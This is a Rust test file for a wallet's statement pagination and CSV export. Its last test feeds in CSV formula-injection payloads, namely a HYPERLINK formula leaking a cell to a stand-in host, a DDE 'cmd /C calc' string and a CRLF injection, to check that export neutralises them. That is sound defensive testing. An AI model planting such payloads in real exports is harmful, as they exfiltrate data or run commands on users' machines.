//! Pages of statements: many rows, new blocks between pages, failures, and hostile names in CSV.

use super::{Pages, START, rows};
use async_trait::async_trait;
use serde_json::Value;
use std::convert::identity;
use std::io::Write;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use wallet_core::model::{Asset, AssetValue};
use wallet_core::own_history::{
    MAX_PAGES, OwnHistory, OwnMovement, OwnPage, OwnTransaction, StatementAmount, StatementCursor, StatementFormat,
    StatementPeriod, read_statement,
};
use wallet_core::ports::upstream::UpstreamError;
use wallet_tests::support::random::Random;

fn received(amount: u64, name: Option<String>) -> OwnMovement {
    let token = Asset::Erc20 {
        chain: "eth",
        contract: "0x1".to_owned(),
    };
    OwnMovement {
        is_received: true,
        amount: StatementAmount {
            unlisted: name.is_some(),
            name,
            ..StatementAmount::new(token, AssetValue::new(amount, 0))
        },
        counterparty: String::new(),
    }
}

/// Returns a transaction in a block with this number of movements.
fn transaction(block: u64, movements: u64) -> OwnTransaction {
    OwnTransaction {
        txid: format!("0x{block:064x}"),
        at: START + block,
        block: Some(block),
        net: 0,
        movements: (1..=movements).map(|amount| received(amount, None)).collect(),
        fee: None,
        kind: None,
        flags: Vec::new(),
    }
}

fn period(to: u64) -> StatementPeriod {
    StatementPeriod::new(START, to, to).expect("a period")
}

#[tokio::test]
async fn transaction_with_more_rows_than_a_page_is_continued() {
    let transactions = [transaction(3, 2), transaction(2, 2500), transaction(1, 1)];
    for size in [1, 2, 200] {
        let history = Pages {
            transactions: &transactions,
            size,
        };
        let rows = rows(&history, period(START + 10)).await;
        let amounts: Vec<_> = rows.iter().filter_map(|row| row.received.as_ref()).collect();
        let amounts: Vec<u64> = amounts
            .iter()
            .map(|amount| amount.value.amount.parse().unwrap())
            .collect();
        let expected: Vec<_> = (1..=2).chain(1..=2500).chain([1]).collect();
        assert_eq!(amounts, expected);
    }
}

#[tokio::test]
async fn new_blocks_between_pages_shift_no_row() {
    let old: Vec<_> = (1..=50).rev().map(|block| transaction(block, 60)).collect();
    let history = |transactions| Pages { transactions, size: 7 };
    let period = period(START + 51);
    let before = history(&old);
    let first = read_statement(&before, period, StatementCursor::<u64>::default(), identity);
    let first = first.await.expect("a page");
    let cursor = first.next(|position| *position).expect("a next page");
    let blocks = (51..=400).rev().map(|block| transaction(block, 3));
    let new: Vec<_> = blocks.chain(old.clone()).collect();
    let respond = |page: wallet_core::own_history::StatementPage<u64>| {
        page.respond(StatementFormat::Json, |position| *position, None, |_| String::new())
            .rows
            .expect("rows")
    };
    let mut found = respond(first);
    let mut cursor = Some(cursor);
    while let Some(from) = cursor {
        let page = read_statement(&history(&new), period, from, identity)
            .await
            .expect("a page");
        cursor = page.next(|position| *position);
        found.extend(respond(page));
    }
    assert_eq!(found, rows(&history(&old), period).await);
}

/// A history that fails after some pages.
struct Failing<'a> {
    pages: Pages<'a>,
    left: AtomicUsize,
}

#[async_trait]
impl OwnHistory for Failing<'_> {
    type Position = u64;

    const CLOCK_SKEW: u64 = 0;

    async fn page(&self, from: u64) -> Result<OwnPage<u64>, UpstreamError> {
        let left = self
            .left
            .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |left| left.checked_sub(1));
        left.map_err(|_| UpstreamError::Timeout)?;
        self.pages.page(from).await
    }
}

#[tokio::test]
async fn failure_of_a_later_page_ends_the_page_before() {
    let transactions: Vec<_> = (1..=10).rev().map(|block| transaction(block, 1)).collect();
    let history = Failing {
        pages: Pages {
            transactions: &transactions,
            size: 2,
        },
        left: AtomicUsize::new(3),
    };
    let page = read_statement(
        &history,
        period(START + 20),
        StatementCursor::<u64>::default(),
        identity,
    )
    .await;
    let page = page.expect("a page");
    assert_eq!(page.next(|position| *position).and_then(|next| next.page), Some(5));
    let failed = read_statement(
        &history,
        period(START + 20),
        StatementCursor::<u64>::default(),
        identity,
    )
    .await;
    assert!(matches!(failed, Err(UpstreamError::Timeout)), "{failed:?}");
}

#[tokio::test]
async fn number_of_pages_of_a_request_is_bounded() {
    let transactions: Vec<_> = (1..=40).rev().map(|block| transaction(block, 1)).collect();
    let history = Failing {
        pages: Pages {
            transactions: &transactions,
            size: 1,
        },
        left: AtomicUsize::new(1000),
    };
    let early = StatementPeriod::new(0, START, START).expect("a period");
    let page = read_statement(&history, early, StatementCursor::<u64>::default(), identity).await;
    let page = page.expect("a page");
    assert_eq!(1000 - history.left.load(Ordering::Relaxed), MAX_PAGES);
    assert_eq!(page.next(|position| *position).and_then(|next| next.page), Some(31));
    assert_eq!(page.assets().count(), 0);
}

/// Reads the CSV with Python and returns the cells.
fn read_by_python(csv: &str) -> Value {
    let script = "import csv, io, json, sys\n\
                  text = sys.stdin.buffer.read().decode('utf-8')\n\
                  print(json.dumps(list(csv.reader(io.StringIO(text, newline=''), strict=True))))";
    let mut child = Command::new("python3")
        .args(["-c", script])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("python3");
    child
        .stdin
        .take()
        .expect("a pipe")
        .write_all(csv.as_bytes())
        .expect("a reader");
    let output = child.wait_with_output().expect("an output");
    assert!(output.status.success());
    serde_json::from_slice(&output.stdout).expect("JSON")
}

#[tokio::test]
async fn hostile_names_are_read_as_text_by_a_different_reader() {
    let mut random = Random::new();
    let characters = [
        '=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', '\'', '|', 'a', '0', ' ', 'é', '😀', '\u{202e}',
    ];
    let mut names = vec![
        "=HYPERLINK(\"http://x.example/?\"&A1,\"claim\")".to_owned(),
        "@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
        "\r\n=1+1,\"\"".to_owned(),
    ];
    for _ in 0..300 {
        let length = random.between(1, 12);
        names.push((0..length).map(|_| *random.one_of(&characters)).collect());
    }
    let movements = names.iter().map(|name| received(1, Some(name.clone())));
    let transactions = [OwnTransaction {
        movements: movements.collect(),
        ..transaction(1, 0)
    }];
    let history = Pages {
        transactions: &transactions,
        size: 1,
    };
    let page = read_statement(&history, period(START + 9), StatementCursor::<u64>::default(), identity).await;
    let symbols = AtomicUsize::new(0);
    let symbol = |_: &Asset| names[symbols.fetch_add(1, Ordering::Relaxed)].clone();
    let csv = page
        .expect("a page")
        .respond(StatementFormat::Csv, |position| *position, None, symbol)
        .csv
        .expect("CSV");
    let read = read_by_python(&csv);
    let read = read.as_array().expect("rows");
    assert_eq!(read.len(), names.len() + 1);
    for (row, name) in read[1..].iter().zip(&names) {
        let cells: Vec<_> = row
            .as_array()
            .expect("cells")
            .iter()
            .map(|cell| cell.as_str().expect("text"))
            .collect();
        assert_eq!(cells.len(), 12, "{name:?}");
        assert!(
            !cells
                .iter()
                .any(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])),
            "{cells:?}"
        );
        assert_eq!(
            cells[4].strip_prefix('\'').unwrap_or(cells[4]),
            name.strip_prefix('\'').unwrap_or(name)
        );
        assert_eq!(cells[10], format!("receive; unlisted token {name}").trim_end());
        assert_eq!(cells[3], "1");
    }
}
